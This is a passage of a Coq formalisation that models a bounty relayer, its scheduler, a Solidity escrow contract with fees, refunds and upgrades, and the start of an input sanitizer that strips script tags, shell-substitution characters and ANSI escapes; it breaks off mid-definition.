Inductive CompleteOutcome : Type :=
  | CompleteThrows (message : string)
  | CompleteReturns (txHash : string) (blockNumber : Z).

(** Everything outside the store that one run of [processClaimedBounty]
    depends on. *)
Record Env : Type := mkEnv {
  verifyPRMergedAndClosesIssue : VerifyCall -> VerifyOutcome;
  completeCommunityBounty : CompleteCall -> CompleteOutcome;
  payoutIo : DbIO;                      (* the database during recordPayout *)
  completionIo : DbIO;                  (* the database during the last update *)
  now : Z
}.

(** An invocation of [blockchain.completeCommunityBounty], tagged with
    the settlement key under which the relayer records its payout. *)
Record LedgerInvocation : Type := mkInvocation {
  forKey : string * Z;
  call : CompleteCall
}.

(** The store together with the invocations of
    [blockchain.completeCommunityBounty] made so far, oldest first. *)
Record World : Type := mkWorld {
  store : Store;
  ledgerCalls : list LedgerInvocation
}.

(** The line the function logs before it returns. *)
Inductive Log : Type :=
  | NotFoundInDb
  | NotInClaimedStatus (current : BountyStatus)
  | MissingRequiredFields
  | MissingInstallationId
  | VerificationFailed (error : option string)
  | ContributorHasNoWallet
  | ProcessingComplete (payoutRecorded : bool)
  | ErrorProcessing (message : string).

(** [`community-${bounty.githubRepoOwner}-${bounty.githubRepoName}`] *)
Definition settlementRepoId (b : CommunityBounty) : string :=
  "community-" ++ githubRepoOwner b ++ "-" ++ githubRepoName b.

Definition settlementKey (b : CommunityBounty) : string * Z :=
  (settlementRepoId b, githubIssueNumber b).

(** The arguments of the verifier call for a bounty. *)
Definition verifyCallOf (bounty : CommunityBounty) : VerifyCall :=
  {| repoOwner := githubRepoOwner bounty;
     repoName := githubRepoName bounty;
     prNumber := Js.or_else (claimedPrNumber bounty) 0;
     issue := githubIssueNumber bounty;
     installation := Js.or_else (githubInstallationId bounty) "" |}.

(** The fields the relayer needs before it can ask the verifier. *)
Definition missingRequiredFields (bounty : CommunityBounty) : bool :=
  Js.falsy_number (claimedPrNumber bounty)
  || Js.falsy_string (claimedByGithubUsername bounty)
  || String.eqb (githubRepoOwner bounty) ""
  || String.eqb (githubRepoName bounty) "".

Definition mark_failed (bountyId : Z) (w : World) : World :=
  {| store := snd (updateCommunityBounty bountyId (set_status failed_verification)
                     (store w));
     ledgerCalls := ledgerCalls w |}.

(** [processClaimedBounty].  The whole body sits in one [try]; the
    [catch] logs and leaves the store as it is at that point. *)
Definition processClaimedBounty (env : Env) (bountyId : Z) (w : World)
  : Log * World :=
  match getCommunityBounty bountyId (store w) with
  | None => (NotFoundInDb, w)
  | Some bounty =>
    if negb (bool_decide (status bounty = claimed)) then
      (NotInClaimedStatus (status bounty), w)
    else if missingRequiredFields bounty then
      (MissingRequiredFields, mark_failed bountyId w)
    else if Js.falsy_string (githubInstallationId bounty) then
      (MissingInstallationId, mark_failed bountyId w)
    else
      let claimer := Js.or_else (claimedByGithubUsername bounty) "" in
      match verifyPRMergedAndClosesIssue env (verifyCallOf bounty) with
      | VerifyThrows m => (ErrorProcessing m, w)
      | VerifyReturns false e => (VerificationFailed e, mark_failed bountyId w)
      | VerifyReturns true _ =>
        match getUserByGithubUsername claimer (store w) with
        | None => (ContributorHasNoWallet, mark_failed bountyId w)
        | Some contributor =>
          if Js.falsy_string (xdcWalletAddress contributor) then
            (ContributorHasNoWallet, mark_failed bountyId w)
          else
            let wallet := Js.or_else (xdcWalletAddress contributor) "" in
            let args := {| onChainId := blockchainBountyId bounty;
                           recipient := wallet |} in
            let calls := ledgerCalls w
                         ++ [{| forKey := settlementKey bounty; call := args |}] in
            match completeCommunityBounty env args with
            | CompleteThrows m =>
                (ErrorProcessing m, {| store := store w; ledgerCalls := calls |})
            | CompleteReturns txHash _ =>
                let fees := FeeCalculator.calculateBountyFees
                              (FeeCalculator.parseFloat
                                 (Js.or_else (baseBountyAmount bounty)
                                    (amount bounty))) in
                let '(recorded, db1) :=
                  recordPayout (payoutIo env)
                    {| repositoryGithubId := settlementRepoId bounty;
                       issueNumber := githubIssueNumber bounty;
                       contributorGithubUsername := claimer;
                       contributorUserId := claimedByUserId bounty;
                       contributorWalletAddress := wallet;
                       payoutFees := fees;
                       payoutCurrency := currency bounty;
                       transactionHash := txHash |} (store w) in
                let payoutRecorded :=
                  match recorded with inr _ => true | inl _ => false end in
                match completionIo env with
                | DbThrows m =>
                    (ErrorProcessing m, {| store := db1; ledgerCalls := calls |})
                | DbUp =>
                    (ProcessingComplete payoutRecorded,
                     {| store := snd (updateCommunityBounty bountyId
                                        (set_payout txHash (now env) wallet) db1);
                        ledgerCalls := calls |})
                end
            end
        end
      end
  end.

(** The [for ... of] loop of [processClaimedBounties]: each bounty is
    awaited before the next one starts. *)
Fixpoint processEach (env : Env) (queue : list CommunityBounty) (w : World)
  : list Log * World :=
  match queue with
  | [] => ([], w)
  | bounty :: rest =>
      let '(l, w1) := processClaimedBounty env (id bounty) w in
      let '(ls, w2) := processEach env rest w1 in
      (l :: ls, w2)
  end.

(** [processClaimedBounties]: one sweep. *)
Definition processClaimedBounties (env : Env) (w : World) : list Log * World :=
  processEach env (getClaimedCommunityBounties (store w)) w.

(** How often the ledger was invoked for a settlement key. *)
Definition invocationsFor (key : string * Z) (w : World) : nat :=
  length (List.filter (fun i => bool_decide (forKey i = key)) (ledgerCalls w)).

(** The primary key of [community_bounties]: a row is stored under its
    [id]. *)
Definition keyed_rows (m : gmap Z CommunityBounty) : Prop :=
  forall k b, m !! k = Some b -> id b = k.

(** A run in which nothing throws: the verifier answers every call, the
    ledger accepts every completion and the last update of the row
    succeeds. *)
Definition answering (env : Env) : Prop :=
  (forall c, exists verified error,
     verifyPRMergedAndClosesIssue env c = VerifyReturns verified error) /\
  (forall c, exists txHash blockNumber,
     completeCommunityBounty env c = CompleteReturns txHash blockNumber) /\
  completionIo env = DbUp.

End Relayer.

(* ===================================================================== *)
(** * The timer of the relayer *)
(* ===================================================================== *)

Module Scheduler.

(** Milliseconds the loop sleeps after each bounty:
    [setTimeout(resolve, 2000)]. *)
Definition delayBetweenBounties : Z := 2000.

(** Default of [startCommunityBountyRelayer(intervalMs = 30000)]. *)
Definition defaultIntervalMs : Z := 30000.

(** The time spent in each [processClaimedBounty] call of one sweep, in
    queue order, and the time spent fetching the queue. *)
Record Workload : Type := mkWorkload {
  fetchMs : Z;
  processMs : list Z
}.

(** The interval during which each bounty of a sweep is being processed,
    for a loop that enters its body at time [t]. *)
Fixpoint bountySlots (t : Z) (processMs : list Z) : list (Z * Z) :=
  match processMs with
  | [] => []
  | d :: rest => (t, t + d) :: bountySlots (t + d + delayBetweenBounties) rest
  end.

(** When the loop that entered its body at [t] is left. *)
Fixpoint loopEnd (t : Z) (processMs : list Z) : Z :=
  match processMs with
  | [] => t
  | d :: rest => loopEnd (t + d + delayBetweenBounties) rest
  end.

(** How long a sweep lasts. *)
Definition sweepDuration (w : Workload) : Z :=
  fetchMs w + fold_right (fun d acc => d + delayBetweenBounties + acc) 0 (processMs w).

(** When a sweep started at [t] returns. *)
Definition sweepEnd (t : Z) (w : Workload) : Z :=
  loopEnd (t + fetchMs w) (processMs w).

(** [startCommunityBountyRelayer(intervalMs)] called at [t0]: sweep 0 is
    the immediate call, sweep [k] for [k >= 1] is the [k]-th firing of
    [setInterval]; the callback calls [processClaimedBounties]
    unconditionally. *)
Definition sweepStart (t0 intervalMs : Z) (k : nat) : Z :=
  t0 + Z.of_nat k * intervalMs.

(** Sweep [k] is in progress at time [t]. *)
Definition inProgress (t0 intervalMs : Z) (load : nat -> Workload) (k : nat)
    (t : Z) : bool :=
  Z.leb (sweepStart t0 intervalMs k) t
  && Z.ltb t (sweepEnd (sweepStart t0 intervalMs k) (load k)).

(** Sweep [k] starts while the earlier sweep [j] is still in progress. *)
Definition startsDuring (t0 intervalMs : Z) (load : nat -> Workload)
    (j k : nat) : bool :=
  Nat.ltb j k && inProgress t0 intervalMs load j (sweepStart t0 intervalMs k).

(** Slots that follow one another without touching. *)
Fixpoint sequential (slots : list (Z * Z)) : Prop :=
  match slots with
  | [] => True
  | (s1, e1) :: rest =>
      s1 <= e1 /\
      match rest with
      | [] => True
      | (s2, _) :: _ => e1 < s2
      end /\ sequential rest
  end.

End Scheduler.

(* ===================================================================== *)
(** * CommunityBountyEscrow.sol *)
(* ===================================================================== *)

Module Escrow.

Definition address : Type := Z.

Definition MAX_UINT256 : Z := 2 ^ 256 - 1.

Inductive CurrencyType : Type := XDC | ROXN | USDC.

Inductive BountyStatus : Type := ACTIVE | COMPLETED | REFUNDED | CANCELLED.

#[export] Instance CurrencyType_eq_dec : EqDecision CurrencyType.
Proof. solve_decision. Defined.

#[export] Instance EscrowStatus_eq_dec : EqDecision BountyStatus.
Proof. solve_decision. Defined.

Record Bounty : Type := mkBounty {
  creator : address;
  amount : Z;
  currency : CurrencyType;
  expiresAt : Z;
  status : BountyStatus
}.

(** What [bounties[id]] reads for an id never written: all fields zero,
    so the status is the first member of the enum. *)
Definition zeroBounty : Bounty :=
  {| creator := 0; amount := 0; currency := XDC; expiresAt := 0; status := ACTIVE |}.

(** The encoding of the enum. *)
Definition currencyId (c : CurrencyType) : Z :=
  match c with XDC => 0 | ROXN => 1 | USDC => 2 end.

(** Who holds how much of each currency (native XDC and the two ERC20
    tokens); an account never written holds nothing. *)
Definition Balances : Type := gmap (Z * Z) Z.

Definition balanceOf (bal : Balances) (c : CurrencyType) (a : address) : Z :=
  default 0 (bal !! (currencyId c, a)).

Record State : Type := mkState {
  initialized : bool;
  this : address;                       (* address(this) *)
  owner : address;
  relayer : address;
  feeCollector : address;
  platformFeeRate : Z;
  contributorFeeRate : Z;
  bounties : gmap Z Bounty;
  nextBountyId : Z;
  balances : Balances;
  allowances : Balances;            (* granted to the escrow, per token and owner *)
  acceptsTransfer : CurrencyType -> address -> bool
    (* the accounts a payment reaches: for XDC, sent by [transfer], the
       externally owned accounts and the contracts whose [receive] or
       [fallback] is payable and runs within the 2300 gas forwarded; for a
       token, the accounts to which the token does not refuse a transfer *)
}.

Record Msg : Type := mkMsg {
  sender : address;
  value : Z;
  timestamp : Z                         (* block.timestamp *)
}.

Inductive Event : Type :=
  | BountyCreated (bountyId : Z) (creator : address) (amount : Z)
                  (currency : CurrencyType) (expiresAt : Z)
  | BountyCompleted (bountyId : Z) (contributor : address) (amount : Z)
                    (platformFee contributorFee netAmount : Z)
  | BountyRefunded (bountyId : Z) (creator : address) (amount : Z).

(** A call either reverts, leaving the state as it was, or returns. *)
Inductive Result (A : Type) : Type :=
  | Revert (reason : string)
  | Return (a : A).
Arguments Revert {A} reason.
Arguments Return {A} a.

Definition bind {A B : Type} (r : Result A) (k : A -> Result B) : Result B :=
  match r with
  | Revert m => Revert m
  | Return a => k a
  end.

Notation "'do' x <- r ; k" := (bind r (fun x => k))
  (at level 10, x name, r at level 100, k at level 200).

Definition require (cond : bool) (reason : string) : Result unit :=
  if cond then Return tt else Revert reason.

(** Checked arithmetic of Solidity 0.8 on [uint256]. *)
Definition checked_add (a b : Z) : Result Z :=
  if a + b <=? MAX_UINT256 then Return (a + b) else Revert "panic: overflow".
Definition checked_sub (a b : Z) : Result Z :=
  if b <=? a then Return (a - b) else Revert "panic: underflow".
Definition checked_mul (a b : Z) : Result Z :=
  if a * b <=? MAX_UINT256 then Return (a * b) else Revert "panic: overflow".

Definition getBounty (bountyId : Z) (s : State) : Bounty :=
  default zeroBounty (bounties s !! bountyId).

Definition credit (c : CurrencyType) (a : address) (v : Z) (bal : Balances)
  : Balances :=
  <[(currencyId c, a) := balanceOf bal c a + v]> bal.

(** [v] passes from [src] to [dst] on the ledger of currency [c], as in
    a token's [transfer] and [transferFrom] and as the value sent with a
    call does; fails on insufficient funds. *)
Definition move (c : CurrencyType) (src dst : address) (v : Z) (bal : Balances)
  : Result Balances :=
  if balanceOf bal c src <? v then Revert "insufficient balance"
  else Return (credit c dst v (credit c src (- v) bal)).

Definition set_bounty (bountyId : Z) (b : Bounty) (bal : Balances) (s : State)
  : State :=
  {| initialized := initialized s; this := this s; owner := owner s;
     relayer := relayer s; feeCollector := feeCollector s;
     platformFeeRate := platformFeeRate s;
     contributorFeeRate := contributorFeeRate s;
     bounties := <[bountyId := b]> (bounties s);
     nextBountyId := nextBountyId s;
     balances := bal; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |}.

Definition with_status (st : BountyStatus) (b : Bounty) : Bounty :=
  {| creator := creator b; amount := amount b; currency := currency b;
     expiresAt := expiresAt b; status := st |}.

(** Whether a payment of the escrow in currency [c] reaches [dst]: for
    XDC whether [payable(dst).transfer(v)] goes through, for a token
    whether [safeTransfer(dst, v)] does, funds apart.  The escrow itself
    declares neither [receive] nor [fallback], so it takes no XDC. *)
Definition takes_transfer (c : CurrencyType) (dst : address) (s : State) : bool :=
  acceptsTransfer s c dst
  && negb (bool_decide (c = XDC) && (dst =? this s)).

(** The escrow pays [v] to [dst]: [payable(dst).transfer(v)] for XDC and
    [safeTransfer(dst, v)] for a token; either reverts when the recipient
    does not take the payment or the escrow lacks the funds. *)
Definition pay (c : CurrencyType) (dst : address) (v : Z) (s : State)
    (bal : Balances) : Result Balances :=
  do _ <- require (takes_transfer c dst s) "transfer failed" ;
  move c (this s) dst v bal.

(** [initialize]: fee rates are 50 + 50 basis points, ids start at 1. *)
Definition initialize (m : Msg) (_roxnToken _usdcToken _relayer _feeCollector : address)
    (s : State) : Result State :=
  do _ <- require (negb (initialized s)) "InvalidInitialization" ;
  do _ <- require (negb (_roxnToken =? 0)) "Invalid ROXN token" ;
  do _ <- require (negb (_usdcToken =? 0)) "Invalid USDC token" ;
  do _ <- require (negb (_relayer =? 0)) "Invalid relayer" ;
  do _ <- require (negb (_feeCollector =? 0)) "Invalid fee collector" ;
  Return {| initialized := true; this := this s; owner := sender m;
            relayer := _relayer; feeCollector := _feeCollector;
            platformFeeRate := 50; contributorFeeRate := 50;
            bounties := bounties s; nextBountyId := 1;
            balances := balances s; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |}.

(** [createBounty]: for XDC the value sent with the call is the deposit,
    for a token [safeTransferFrom] pulls it from the caller. *)
Definition createBounty (m : Msg) (amt : Z) (cur : CurrencyType) (expires : Z)
    (s : State) : Result (Z * State * list Event) :=
  do paid <- move XDC (sender m) (this s) (value m) (balances s) ;
  do _ <- require (0 <? amt) "Amount must be positive" ;
  do _ <- (if 0 <? expires
        then require (timestamp m <? expires) "Expiry must be in future"
        else Return tt) ;
  let bountyId := nextBountyId s in
  do next <- checked_add bountyId 1 ;
  do bal <- match cur with
         | XDC => do _ <- require (value m =? amt) "XDC amount mismatch" ; Return paid
         | _ => do _ <- require (amt <=? balanceOf (allowances s) cur (sender m))
                       "insufficient allowance" ;
                move cur (sender m) (this s) amt paid
         end ;
  let b := {| creator := sender m; amount := amt; currency := cur;
              expiresAt := expires; status := ACTIVE |} in
  let s' := set_bounty bountyId b bal s in
  Return (bountyId,
          {| initialized := initialized s'; this := this s'; owner := owner s';
             relayer := relayer s'; feeCollector := feeCollector s';
             platformFeeRate := platformFeeRate s';
             contributorFeeRate := contributorFeeRate s';
             bounties := bounties s'; nextBountyId := next;
             balances := balances s';
             allowances := match cur with
                           | XDC => allowances s
                           | _ => credit cur (sender m) (- amt) (allowances s)
                           end;
             acceptsTransfer := acceptsTransfer s' |},
          [BountyCreated bountyId (sender m) amt cur expires]).

(** [completeBounty], under [onlyRelayer]. *)
Definition completeBounty (m : Msg) (bountyId : Z) (contributor : address)
    (s : State) : Result (State * list Event) :=
  do _ <- require (sender m =? relayer s) "Only relayer can call" ;
  let bounty := getBounty bountyId s in
  do _ <- require (bool_decide (status bounty = ACTIVE)) "Bounty not active" ;
  do _ <- require (negb (contributor =? 0)) "Invalid contributor" ;
  do _ <- (if 0 <? expiresAt bounty
        then require (timestamp m <=? expiresAt bounty) "Bounty expired"
        else Return tt) ;
  do p <- checked_mul (amount bounty) (platformFeeRate s) ;
  let platformFee := p / 10000 in
  do c <- checked_mul (amount bounty) (contributorFeeRate s) ;
  let contributorFee := c / 10000 in
  do rest <- checked_sub (amount bounty) platformFee ;
  do netAmount <- checked_sub rest contributorFee ;
  do fees <- checked_add platformFee contributorFee ;
  do bal1 <- pay (currency bounty) contributor netAmount s (balances s) ;
  do bal2 <- pay (currency bounty) (feeCollector s) fees s bal1 ;
  Return (set_bounty bountyId (with_status COMPLETED bounty) bal2 s,
          [BountyCompleted bountyId contributor (amount bounty)
             platformFee contributorFee netAmount]).

(** [refundBounty] *)
Definition refundBounty (m : Msg) (bountyId : Z) (s : State)
  : Result (State * list Event) :=
  let bounty := getBounty bountyId s in
  do _ <- require (sender m =? creator bounty) "Only creator can refund" ;
  do _ <- require (bool_decide (status bounty = ACTIVE)) "Bounty not active" ;
  do _ <- require (0 <? expiresAt bounty) "Bounty has no expiry" ;
  do _ <- require (expiresAt bounty <? timestamp m) "Bounty not expired" ;
  do bal <- pay (currency bounty) (creator bounty) (amount bounty) s
           (balances s) ;
  Return (set_bounty bountyId (with_status REFUNDED bounty) bal s,
          [BountyRefunded bountyId (creator bounty) (amount bounty)]).

(** [setFeeRates], under [onlyOwner]. *)
Definition setFeeRates (m : Msg) (newPlatformFeeRate newContributorFeeRate : Z)
    (s : State) : Result State :=
  do _ <- require (sender m =? owner s) "OwnableUnauthorizedAccount" ;
  do total <- checked_add newPlatformFeeRate newContributorFeeRate ;
  do _ <- require (total <=? 1000) "Total fees cannot exceed 10%" ;
  Return {| initialized := initialized s; this := this s; owner := owner s;
            relayer := relayer s; feeCollector := feeCollector s;
            platformFeeRate := newPlatformFeeRate;
            contributorFeeRate := newContributorFeeRate;
            bounties := bounties s; nextBountyId := nextBountyId s;
            balances := balances s; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |}.

(** The amount of a token with 18 decimals (XDC, ROXN) in its smallest
    unit, as [ethers.parseEther] gives it for a decimal string. *)
Definition parseEther (q : Q) : Z := Qfloor (q * inject_Z (10 ^ 18))%Q.

End Escrow.

(* ===================================================================== *)
(** * CommunityBountyEscrow.sol: admin and view functions, transactions *)
(* ===================================================================== *)

Module EscrowAdmin.
Import Escrow.

(** [event RelayerUpdated(address indexed oldRelayer, address indexed newRelayer)] *)
Inductive AdminEvent : Type :=
  | RelayerUpdated (oldRelayer newRelayer : address).

(** [setRelayer], under [onlyOwner]. *)
Definition setRelayer (m : Msg) (newRelayer : address) (s : State)
  : Result (State * list AdminEvent) :=
  do _ <- require (sender m =? owner s) "OwnableUnauthorizedAccount" ;
  do _ <- require (negb (newRelayer =? 0)) "Invalid relayer" ;
  let oldRelayer := relayer s in
  Return ({| initialized := initialized s; this := this s; owner := owner s;
             relayer := newRelayer; feeCollector := feeCollector s;
             platformFeeRate := platformFeeRate s;
             contributorFeeRate := contributorFeeRate s;
             bounties := bounties s; nextBountyId := nextBountyId s;
             balances := balances s; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |},
          [RelayerUpdated oldRelayer newRelayer]).

(** [setFeeCollector], under [onlyOwner]. *)
Definition setFeeCollector (m : Msg) (newFeeCollector : address) (s : State)
  : Result State :=
  do _ <- require (sender m =? owner s) "OwnableUnauthorizedAccount" ;
  do _ <- require (negb (newFeeCollector =? 0)) "Invalid fee collector" ;
  Return {| initialized := initialized s; this := this s; owner := owner s;
            relayer := relayer s; feeCollector := newFeeCollector;
            platformFeeRate := platformFeeRate s;
            contributorFeeRate := contributorFeeRate s;
            bounties := bounties s; nextBountyId := nextBountyId s;
            balances := balances s; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |}.

(** ** Inherited functions *)

Definition with_owner (newOwner : address) (s : State) : State :=
  {| initialized := initialized s; this := this s; owner := newOwner;
     relayer := relayer s; feeCollector := feeCollector s;
     platformFeeRate := platformFeeRate s;
     contributorFeeRate := contributorFeeRate s;
     bounties := bounties s; nextBountyId := nextBountyId s;
     balances := balances s; allowances := allowances s;
     acceptsTransfer := acceptsTransfer s |}.

(** [transferOwnership] and [renounceOwnership] come with
    [OwnableUpgradeable] (OpenZeppelin 5, a dependency that is not part of
    the sources): both are [onlyOwner]; the first refuses the zero
    address, the second leaves the contract without owner. *)
Definition transferOwnership (m : Msg) (newOwner : address) (s : State)
  : Result State :=
  do _ <- require (sender m =? owner s) "OwnableUnauthorizedAccount" ;
  do _ <- require (negb (newOwner =? 0)) "OwnableInvalidOwner" ;
  Return (with_owner newOwner s).

Definition renounceOwnership (m : Msg) (s : State) : Result State :=
  do _ <- require (sender m =? owner s) "OwnableUnauthorizedAccount" ;
  Return (with_owner 0 s).

(** [_authorizeUpgrade], under [onlyOwner], with an empty body. *)
Definition _authorizeUpgrade (m : Msg) (newImplementation : address) (s : State)
  : Result unit :=
  require (sender m =? owner s) "OwnableUnauthorizedAccount".

(** [upgradeToAndCall] comes with [UUPSUpgradeable]: once
    [_authorizeUpgrade] has let the caller through, the proxy is pointed
    to the new implementation, which then runs the call the upgrade
    carries on the storage of the proxy.  What that call does is the new
    code's matter: [data] stands for it, and may write anything. *)
Definition upgradeToAndCall (m : Msg) (newImplementation : address)
    (data : State -> State) (s : State) : Result State :=
  do _ <- _authorizeUpgrade m newImplementation s ;
  Return (data s).

(** [isBountyClaimable], a view; [now] is [block.timestamp]. *)
Definition isBountyClaimable (now : Z) (bountyId : Z) (s : State) : bool :=
  let bounty := getBounty bountyId s in
  if negb (bool_decide (status bounty = ACTIVE)) then false
  else if expiresAt bounty =? 0 then true
  else now <=? expiresAt bounty.

(** ** Transactions *)

(** The external functions of the contract, declared and inherited, and
    what any other account can do to the balances the contract reads:
    move funds of its own and grant the escrow an allowance. *)
Inductive Call : Type :=
  | CallInitialize (_roxnToken _usdcToken _relayer _feeCollector : address)
  | CallCreateBounty (amount : Z) (currency : CurrencyType) (expiresAt : Z)
  | CallCompleteBounty (bountyId : Z) (contributor : address)
  | CallRefundBounty (bountyId : Z)
  | CallSetRelayer (newRelayer : address)
  | CallSetFeeCollector (newFeeCollector : address)
  | CallSetFeeRates (newPlatformFeeRate newContributorFeeRate : Z)
  | CallTransferOwnership (newOwner : address)
  | CallRenounceOwnership
  | CallUpgradeToAndCall (newImplementation : address) (data : State -> State)
  | Transfer (currency : CurrencyType) (recipient : address) (amount : Z)
  | Approve (currency : CurrencyType) (amount : Z).

(** Of the functions the contract declares only [createBounty] is
    [payable]: every other one, and the two of [OwnableUpgradeable],
    reverts when value is sent with the call. *)
Definition nonPayable (m : Msg) : Result unit :=
  require (value m =? 0) "non-payable function".

Definition with_balances (bal allow : Balances) (s : State) : State :=
  {| initialized := initialized s; this := this s; owner := owner s;
     relayer := relayer s; feeCollector := feeCollector s;
     platformFeeRate := platformFeeRate s;
     contributorFeeRate := contributorFeeRate s;
     bounties := bounties s; nextBountyId := nextBountyId s;
     balances := bal; allowances := allow;
     acceptsTransfer := acceptsTransfer s |}.

(** The state after a call that returns. *)
Definition exec (m : Msg) (c : Call) (s : State) : Result State :=
  match c with
  | CallInitialize roxn usdc rel fc =>
      do _ <- nonPayable m ; initialize m roxn usdc rel fc s
  | CallCreateBounty amt cur expires =>
      do r <- createBounty m amt cur expires s ; Return (snd (fst r))
  | CallCompleteBounty bountyId contributor =>
      do _ <- nonPayable m ;
      do r <- completeBounty m bountyId contributor s ; Return (fst r)
  | CallRefundBounty bountyId =>
      do _ <- nonPayable m ;
      do r <- refundBounty m bountyId s ; Return (fst r)
  | CallSetRelayer newRelayer =>
      do _ <- nonPayable m ;
      do r <- setRelayer m newRelayer s ; Return (fst r)
  | CallSetFeeCollector newFeeCollector =>
      do _ <- nonPayable m ; setFeeCollector m newFeeCollector s
  | CallSetFeeRates p c =>
      do _ <- nonPayable m ; setFeeRates m p c s
  | CallTransferOwnership newOwner =>
      do _ <- nonPayable m ; transferOwnership m newOwner s
  | CallRenounceOwnership =>
      do _ <- nonPayable m ; renounceOwnership m s
  | CallUpgradeToAndCall newImplementation data =>
      upgradeToAndCall m newImplementation data s
  | Transfer cur recipient amt =>
      do bal <- move cur (sender m) recipient amt (balances s) ;
      Return (with_balances bal (allowances s) s)
  | Approve cur amt =>
      Return (with_balances (balances s)
                (<[(currencyId cur, sender m) := amt]> (allowances s)) s)
  end.

(** A transaction that reverts leaves the state as it was. *)
Definition apply_tx (s : State) (tx : Msg * Call) : State :=
  match exec (fst tx) (snd tx) s with
  | Return s' => s'
  | Revert _ => s
  end.

(** An upgrade the owner asks for: from it on the proxy runs other code. *)
Definition upgrades (s : State) (tx : Msg * Call) : bool :=
  match snd tx with
  | CallUpgradeToAndCall _ _ => sender (fst tx) =? owner s
  | _ => false
  end.

(** The state the transactions lead to while this code is the one the
    proxy runs: the run ends at the first upgrade the owner asks for. *)
Fixpoint run (txs : list (Msg * Call)) (s : State) : State :=
  match txs with
  | [] => s
  | tx :: rest => if upgrades s tx then s else run rest (apply_tx s tx)
  end.

(** ** What the statements below are about *)

(** The values a transaction carries are [uint256]s, and the escrow is
    never the sender of a transaction: it makes no call to itself. *)
Definition valid_call (c : Call) : Prop :=
  match c with
  | CallCreateBounty amt _ expires => 0 <= amt /\ 0 <= expires
  | CallSetFeeRates p c => 0 <= p /\ 0 <= c
  | Transfer _ _ amt => 0 <= amt
  | Approve _ amt => 0 <= amt
  | _ => True
  end.

Definition valid_tx (escrow : address) (tx : Msg * Call) : Prop :=
  sender (fst tx) <> escrow /\ 0 <= value (fst tx) /\ valid_call (snd tx).

(** What a bounty locks of currency [c]: its amount while it is active. *)
Definition locked (c : CurrencyType) (b : Bounty) : Z :=
  if bool_decide (status b = ACTIVE /\ currency b = c) then amount b else 0.

(** The sum of the amounts of the active bounties in currency [c]. *)
Definition escrowed (c : CurrencyType) (s : State) : Z :=
  map_fold (fun _ b acc => locked c b + acc) 0 (bounties s).

(** The stored values are [uint256]s. *)
Definition well_formed (s : State) : Prop :=
  0 <= platformFeeRate s /\ 0 <= contributorFeeRate s /\
  forall bountyId b, bounties s !! bountyId = Some b -> 0 <= amount b.

(** The escrow holds at least what its active bounties lock. *)
Definition solvent (s : State) : Prop :=
  forall c, escrowed c s <= balanceOf (balances s) c (this s).

(** The constraint of [setFeeRates]. *)
Definition fee_cap (s : State) : Prop :=
  platformFeeRate s + contributorFeeRate s <= 1000.

End EscrowAdmin.

(* ===================================================================== *)
(** * sanitizeUserInput and sanitizeGitHubIssue (server/utils.ts) *)
(* ===================================================================== *)

Module Sanitizer.

Local Open Scope N_scope.

(** A JavaScript string: the sequence of its UTF-16 code units. *)
Definition jsString : Type := list N.

(** The code units of a string literal of the source (ASCII). *)
Definition codes (s : string) : jsString :=
  map N_of_ascii (list_ascii_of_string s).

(** ** [String.prototype.replace] with the global patterns of the file *)

(** A pattern of one code unit, such as [/`/g] or [/</g]. *)
Fixpoint replace_unit (c : N) (replacement : jsString) (s : jsString) : jsString :=
  match s with
  | [] => []
  | x :: rest =>
      if x =? c then replacement ++ replace_unit c replacement rest
      else x :: replace_unit c replacement rest
  end.

(** A pattern of two code units, [/\$\(/g] and [/\$\{/g]: matches are
    found from left to right and do not overlap. *)
Fixpoint replace_pair (a b : N) (replacement : jsString) (s : jsString) : jsString :=
  match s with
  | [] => []
  | x :: rest =>
      match rest with
      | y :: rest' =>
          if (x =? a) && (y =? b) then replacement ++ replace_pair a b replacement rest'
          else x :: replace_pair a b replacement rest
      | [] => [x]
      end
  end.

(** A pattern given by its matcher: [matcher s] is the length of the match
    that starts at the head of [s], if there is one.  The search goes from
    left to right and resumes behind each match; [skip] counts the units
    of the current match still to be passed over. *)
Fixpoint replace_matches (matcher : jsString -> option nat) (replacement : jsString)
    (skip : nat) (s : jsString) : jsString :=
  match s with
  | [] => []
  | x :: rest =>
      match skip with
      | S k => replace_matches matcher replacement k rest
      | O =>
          match matcher s with
          | Some (S n) => replacement ++ replace_matches matcher replacement n rest
          | _ => x :: replace_matches matcher replacement O rest
          end
      end
  end.

Fixpoint take_while (p : N -> bool) (s : jsString) : jsString :=
  match s with
  | x :: rest => if p x then x :: take_while p rest else []
  | [] => []
  end.

Fixpoint drop_while (p : N -> bool) (s : jsString) : jsString :=
  match s with
  | x :: rest => if p x then drop_while p rest else s
  | [] => []
  end.

(** [/\x1b\[[0-9;]*m/]: ESC, an opening bracket, digits and semicolons,
    the letter m.  The class is matched greedily and none of its members
    is an m, so the match, if any, is unique. *)
Definition is_ansi_parameter (c : N) : bool :=
  ((48 <=? c) && (c <=? 57)) || (c =? 59).

Definition ansi_match (s : jsString) : option nat :=
  match s with
  | 27 :: 91 :: rest =>
      match drop_while is_ansi_parameter rest with
      | 109 :: _ => Some (2 + length (take_while is_ansi_parameter rest) + 1)%nat
      | _ => None
      end
  | _ => None
  end.

(** Matching under the [i] flag: an ASCII letter matches in both cases;
    no code unit outside ASCII is folded onto an ASCII letter. *)
Definition fold_case (c : N) : N :=
  if (65 <=? c) && (c <=? 90) then c + 32 else c.

(** [s] starts with the lower-case literal [literal], whatever the case
    of its letters; the rest of [s] is returned. *)
Fixpoint starts_with_ci (literal s : jsString) : option jsString :=
  match literal with
  | [] => Some s
  | a :: literal' =>
      match s with
      | x :: s' => if fold_case x =? a then starts_with_ci literal' s' else None
      | [] => None
      end
  end.

(** The line terminators, which [.] does not match. *)
Definition is_line_terminator (c : N) : bool :=
  (c =? 10) || (c =? 13) || (c =? 8232) || (c =? 8233).

(** [[^>]*>]: everything up to the first [>], which is consumed. *)
Fixpoint up_to_gt (s : jsString) : option (nat * jsString) :=
  match s with
  | [] => None
  | x :: rest =>
      if x =? 62 then Some (1%nat, rest)
      else match up_to_gt rest with
           | Some (n, r) => Some (S n, r)
           | None => None
           end
  end.

(** [.*?<\/script>]: as few units as possible, none of them a line
    terminator, then the closing tag. *)
Fixpoint lazy_close (s : jsString) : option nat :=
  match starts_with_ci (codes "</script>") s with
  | Some _ => Some 9%nat
  | None =>
      match s with
      | [] => None
      | x :: rest =>
